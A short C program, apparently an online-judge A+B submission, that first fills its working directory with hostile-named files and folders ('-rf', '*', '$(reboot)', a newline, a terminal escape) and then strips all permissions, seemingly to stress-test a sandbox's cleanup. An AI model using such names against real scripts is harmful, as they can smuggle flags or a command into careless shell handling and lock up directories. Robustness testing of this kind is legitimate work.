#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>
int main(void)
{
    int a, b;
    char longest[256];
    memset(longest, '\xff', 255);
    longest[255] = '\0';
    const char *const names[] = { longest, "\n", "\033[2J", "-rf", "*", "$(reboot)", "a b", "\\", "..a", "...", "0", "1" };
    for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
        char inner[300];
        if (i % 2) {
            close(open(names[i], O_WRONLY | O_CREAT, 0));
            continue;
        }
        mkdir(names[i], 0700);
        snprintf(inner, sizeof inner, "%s/0", names[i]);
        mkdir(inner, 0700);
        setxattr(inner, "user.note", "left", 4, 0);
        chmod(inner, 0);
        chmod(names[i], 0);
    }
    setxattr(".", "user.note", "left", 4, 0);
    chmod(".", 0);
    scanf("%d %d", &a, &b);
    printf("%d\n", a + b);
}
